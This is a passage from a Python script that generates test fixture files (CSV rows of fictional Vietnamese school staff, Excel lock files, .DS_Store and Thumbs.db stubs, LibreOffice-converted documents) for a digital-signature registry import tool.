    ["8800100602", "Giáo viên", "Trường Mầm non Hoa Sen", "Đã cấp"],  # 3 -> MN Hoa Sen
    ["8800100603", "Giáo viên", "TRƯỜNG TH HOA SEN", "Chưa cấp"],  # 4 -> TH Hoa Sen
    ["8800100604", "Giáo viên", "Trường Tiểu học Bình Minh", "Đã cấp"],  # 5 unmatched (MN only)
    ["8800100605", "Giáo viên", "Trường THCS Hoa Sen", "Đã cấp"],  # 6 unmatched (MN, TH only)
    ["8800100606", "Giáo viên", "Trường Mầm non Sao Mai", "Đã cấp"],  # 7 unmatched (TH, THCS)
    ["8800100607", "Giáo viên", "THCS Sao Mai", "Đã cấp"],  # 8 -> THCS Sao Mai
]


def build_level_binding() -> None:
    d = HERE / "level_binding"
    d.mkdir(exist_ok=True)
    lines = [csv_line(r) for r in LEVEL_ROWS]
    (d / "CBGVNV_cap_hoc_trong_ten.csv").write_bytes(("\r\n".join(lines) + "\r\n").encode("utf-8"))


def build_not_read(soffice: bool) -> None:
    d = HERE / "not_read"
    d.mkdir(exist_ok=True)
    # Excel's owner file: a byte of length, the user name, padding (about 165 bytes)
    owner = "nguoi dung"
    (d / "~$lock.xlsx").write_bytes(
        bytes([len(owner)]) + owner.encode("ascii") + b" " * (54 - len(owner)) + b"\x00" * 110
    )
    (d / ".DS_Store").write_bytes(b"\x00\x00\x00\x01Bud1" + b"\x00" * 2040)
    (d / "Thumbs.db").write_bytes(bytes.fromhex("d0cf11e0a1b11ae1") + b"\x00" * 1528)
    if soffice:
        src = HERE / "sources"
        src.mkdir(exist_ok=True)
        note = src / "huong_dan.html"
        note.write_text(
            "<html><body><h1>Hướng dẫn nộp biểu mẫu chữ ký số</h1>"
            "<p>Văn bản kèm theo (hư cấu), không phải dữ liệu.</p></body></html>\n",
            encoding="utf-8",
        )
        pdf = soffice_convert(note, "pdf", d)
        pdf.replace(d / "huong_dan.pdf")
        docx = soffice_convert(note, "docx:MS Word 2007 XML", d)
        docx.replace(d / "bien_ban.docx")
        for p in (d / "huong_dan.docx",):
            p.unlink(missing_ok=True)


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--no-soffice", action="store_true", help="skip the LibreOffice files")
    args = ap.parse_args(argv)
    soffice = not args.no_soffice
    if soffice and shutil.which("soffice") is None:
        print("soffice not found: use --no-soffice (the LibreOffice files are kept)")
        return 1
    build_district(soffice)
    build_text_variants()
    build_html_xls()
    build_subfolder()
    build_formulas()
    build_xlsx_dimension()
    build_bad_files()
    build_injection()
    build_free_text(soffice)
    build_code_width()
    build_level_binding()
    build_not_read(soffice)
    big = [p for p in HERE.rglob("*") if p.is_file() and p.stat().st_size >= 50_000]
    if big:
        print("files of 50 kB or more:", *big, sep="\n  ")
        return 1
    print(f"corpus written under {HERE}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
